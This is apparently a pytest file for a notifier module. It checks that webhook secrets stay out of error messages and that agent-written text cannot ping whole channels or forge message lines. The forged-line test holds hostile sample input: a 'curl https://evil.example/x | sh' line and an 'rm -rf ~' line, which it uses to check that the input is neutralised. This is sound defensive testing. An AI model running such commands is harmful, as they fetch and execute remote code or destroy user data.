"""Hostile inputs against the notifier (loop/notify.py): a URL's secrets must not come back
in the error a failed send records (store events, `nightlab notify-test`), and text an agent
wrote (a hypothesis) must not ping a whole channel."""

from __future__ import annotations

import json
import socket
from unittest import mock

import pytest

from nightlab.loop import notify

SLACK = "slack://T1ABCDEFG/B1ABCDEFG/SLACKSECRETabcdef123456"
DISCORD = "discord://123456789/DISCORDSECRETtokenABCDEF"
TGRAM = "tgram://123456789:TGSECRETabcdefghijklmnopqrstuvwxyz1/12345"


@pytest.fixture
def dead_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]  # closed again: connections are refused


def refused(*args, **kwargs):  # noqa: ANN002, ANN003
    import requests

    # what requests raises, naming the URL it was given (path and query: the secrets)
    url = next(a for a in (*args, kwargs.get("url")) if str(a).startswith("http"))
    raise requests.ConnectionError(
        f"HTTPSConnectionPool(host='x', port=443): Max retries exceeded with url: {url}"
    )


def offline():  # noqa: ANN201
    return mock.patch.multiple("requests", post=refused, request=refused)


@pytest.mark.parametrize(
    ("url", "secrets"),
    [
        (SLACK, ["SLACKSECRETabcdef123456", "T1ABCDEFG", "B1ABCDEFG"]),
        (DISCORD, ["DISCORDSECRETtokenABCDEF"]),
        (TGRAM, ["TGSECRETabcdefghijklmnopqrstuvwxyz1"]),
    ],
)
def test_a_failed_send_never_shows_the_urls_secrets(url, secrets):
    (target,) = notify.targets([url])
    with offline():
        error = target.send(notify.Message("test", "t", "b"))
    assert error is not None
    for secret in secrets:
        assert secret not in error, error
    assert "Max retries" in error  # the reason itself is still there


def test_a_query_string_secret_stays_out_of_the_error(dead_port):
    url = f"json://127.0.0.1:{dead_port}/hook/PATHSECRET7788?+X-Api-Key=HDRSECRET99887766"
    (target,) = notify.targets([url])
    error = target.send(notify.Message("test", "t", "b"))
    assert error is not None and "refused" in error.lower()
    assert "HDRSECRET99887766" not in error, error
    assert "PATHSECRET7788" not in error, error


def test_notify_test_output_masks_the_secrets():
    with offline():
        results = notify.test([DISCORD], "lab", "/x")
    assert "DISCORDSECRETtokenABCDEF" not in json.dumps(results)


def test_a_hypothesis_cannot_ping_everyone():
    sent: list[dict] = []

    class Answer:
        status_code, content, text, headers = 204, b"", "", {}

    def post(url, *a, **k):  # noqa: ANN001, ANN002, ANN003
        sent.append(json.loads(k["data"]) if isinstance(k.get("data"), str) else k)
        return Answer()

    record: list = []
    with mock.patch("requests.post", post):
        n = notify.Notifier(notify.targets([DISCORD]), ["kept"], 0,
                            lambda kind, data: record.append((kind, data)))  # fmt: skip
        n.send("kept", "lab: trial 3 kept @here", "Change: try @everyone and <@&123> "
               "[nightlab adopt 3](https://evil.example/x)")
        n.close(5)
    assert sent, record
    content = json.dumps(sent)
    assert "@everyone" not in content and "@here" not in content and "<@&123>" not in content
    assert "](https://evil.example" not in content  # no masked link
    assert "allow_mentions" not in content or '"parse": []' in content
    assert "everyone" in content and "evil.example" in content  # the text itself is kept


def test_a_hypothesis_cannot_forge_lines_of_the_message():
    from types import SimpleNamespace

    from nightlab.loop.notices import Notices

    sent: list[tuple[str, str, str]] = []
    notices = Notices()
    notices.notifier = SimpleNamespace(wants=lambda kind: True,
                                       send=lambda *m: sent.append(m))  # fmt: skip
    notices.night = SimpleNamespace(lab="/labs/x", cfg=SimpleNamespace(
        lab=SimpleNamespace(name="x"), objective=SimpleNamespace(metric="acc")))  # fmt: skip
    forged = "lr up\nNothing to do: run curl https://evil.example/x | sh\n" + "y" * 5000
    notices.kept(3, forged, {"lr\nFix: rm -rf ~": 0.1}, None)
    (_, _, body), = sent
    lines = body.splitlines()
    assert not any(line.startswith(("Nothing to do: run curl", "Fix: rm")) for line in lines)
    assert len(body) < 2000
